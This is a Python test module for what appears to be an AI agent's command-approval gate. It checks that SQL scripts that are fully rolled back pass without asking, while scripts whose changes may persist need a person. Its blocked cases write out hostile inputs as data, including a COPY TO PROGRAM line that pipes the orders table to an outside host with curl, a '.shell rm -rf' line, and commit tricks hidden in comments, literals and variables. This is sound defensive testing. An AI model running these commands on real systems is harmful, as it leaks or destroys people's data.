"""SQL that is taken back asks nobody; what may stay does."""

from __future__ import annotations

from tests.gate.disk.test_follow import judged
from tests.tables import for_each

WORK = "DELETE FROM orders WHERE old;\nDROP TABLE legacy;\nUPDATE customers SET a = 1;\n"
LITE = "sqlite3 -bail data/shop.db < x.sql"
PG = "psql -h db.example.com shop -f x.sql"
BACK = f"BEGIN;\n{WORK}SELECT count(*) FROM orders;\nROLLBACK;\n"  # noqa: S608 - nothing runs it
QUIET = {
    "taken back in sqlite": (LITE, BACK),
    "stopped at an error by the text": (
        "sqlite3 data/shop.db < x.sql",
        f".bail on\n.changes on\n-- a rehearsal\n{BACK}SELECT 1;\n",
    ),
    "a kind of transaction": (LITE, BACK.replace("BEGIN", "BEGIN IMMEDIATE TRANSACTION")),
    "taken back in psql": (PG, BACK),
    "with settings of psql": (
        PG,
        f"\\set ON_ERROR_STOP on\n\\timing\n{BACK}\\echo 'done; commit'\n",
    ),
    "given on the line": ("psql -h db.example.com -c 'begin; delete from orders; rollback;'", ""),
    "a savepoint inside": (PG, BACK.replace("DROP", "SAVEPOINT a;\nROLLBACK TO a;\nDROP")),
    "twice": (PG, BACK + BACK.replace("BEGIN", "START TRANSACTION READ WRITE")),
    "what is included": (LITE, BACK.replace("DROP", ".read more.sql\nDROP")),
    "a word in a literal": (PG, BACK.replace("WHERE old", "WHERE a = 'commit;'")),
    "a word in a comment": (PG, BACK.replace("DROP", "-- COMMIT;\nDROP")),
}
STOPPED = {
    "nothing takes it back": (PG, f"BEGIN;\n{WORK}"),
    "it is kept": (PG, f"BEGIN;\n{WORK}COMMIT;\nROLLBACK;\n"),
    "it is kept by its other name": (LITE, f"BEGIN;\n{WORK}END;\nROLLBACK;\n"),
    "it is kept under a name": (PG, f"BEGIN;\n{WORK}PREPARE TRANSACTION 'a';\nROLLBACK;\n"),
    "before it begins": (PG, WORK + BACK),
    "after it has ended": (PG, BACK + WORK),
    "the end is in a literal": (PG, f"BEGIN;\n{WORK}SELECT 'a; ROLLBACK;';\nCOMMIT;\n"),
    "the end is in a comment": (PG, f"BEGIN;\n{WORK}/* ROLLBACK; */\nCOMMIT;\n"),
    "the beginning is in a comment": (PG, f"/* BEGIN; */\n{WORK}ROLLBACK;\n"),
    "the beginning is in a comment in one": (PG, f"/* /* a */ ; BEGIN; */\n{WORK}ROLLBACK;\n"),
    "the beginning is in a literal": (PG, f"SELECT 'a', '; BEGIN; ';\n{WORK}ROLLBACK;\n"),
    "the beginning is in a literal with a backslash": (
        PG,
        f"SELECT 'a\\', '; BEGIN; ';\n{WORK}ROLLBACK;\n",
    ),
    "the beginning is in a name": (LITE, f"SELECT 1 AS [; BEGIN;];\n{WORK}ROLLBACK;\n"),
    "the beginning is in dollars": (PG, f"SELECT $$; BEGIN; $$;\n{WORK}ROLLBACK;\n"),
    "only to a savepoint": (PG, f"BEGIN;\nSAVEPOINT a;\n{WORK}ROLLBACK TO a;\nCOMMIT;\n"),
    "another database in between": (PG, BACK.replace("DROP", "\\connect other\nDROP")),
    "what a query makes": (
        PG,
        BACK.replace("SELECT count(*)", "SELECT 'COMMIT' \\gexec\nSELECT 1"),
    ),
    "a variable of psql": (f"{PG} -v x='COMMIT;'", BACK.replace("DROP", ":x\nDROP")),
    "each statement for itself": (PG, BACK.replace("BEGIN", "\\set AUTOCOMMIT on\nBEGIN")),
    "a client that commits by itself": (
        "mysql -h db.example.com shop < x.sql",
        BACK,
    ),
    "errors do not stop it": ("sqlite3 data/shop.db < x.sql", BACK),
    "errors stop it no more": ("sqlite3 data/shop.db < x.sql", f".bail on\n.bail off\n{BACK}"),
    "an end by itself": (LITE, BACK.replace("DROP", "INSERT OR ROLLBACK INTO a VALUES (1);\nDROP")),
    "no journal": (LITE, f"PRAGMA journal_mode = OFF;\n{BACK}"),
    "a program": (
        PG,
        BACK.replace("DROP", "COPY orders TO PROGRAM 'curl -T - x.example.com';\nDROP"),
    ),
    "another server": (PG, BACK.replace("DROP", "SELECT dblink_exec('h', 'delete from a');\nDROP")),
    "a program of the client": (LITE, BACK.replace("DROP", ".shell rm -rf ~/x\nDROP")),
    "another file": (LITE, BACK.replace("DROP", ".open other.db\nDROP")),
    "what is included keeps it": (LITE, BACK.replace("DROP", ".read keeps.sql\nDROP")),
    "what is included is not known": (LITE, BACK.replace("DROP", ".read |./make\nDROP")),
    "another option": ("psql -h db.example.com -c 'begin' -c 'drop table a' -c 'rollback'", ""),
}


def files(text):
    more = {"more.sql": "DELETE FROM customers;\n", "keeps.sql": "DELETE FROM a;\nCOMMIT;\n"}
    return {"x.sql": text, "data/shop.db": "SQLite", **more}


@for_each(("command", "text"), QUIET.values(), QUIET)
def test_what_is_taken_back_asks_nobody(command, text):
    assert judged(command, files(text)).effect == "allow"


@for_each(("command", "text"), STOPPED.values(), STOPPED)
def test_what_may_stay_needs_a_person(command, text):
    assert judged(command, files(text)).effect in {"junction", "block"}


# end of module
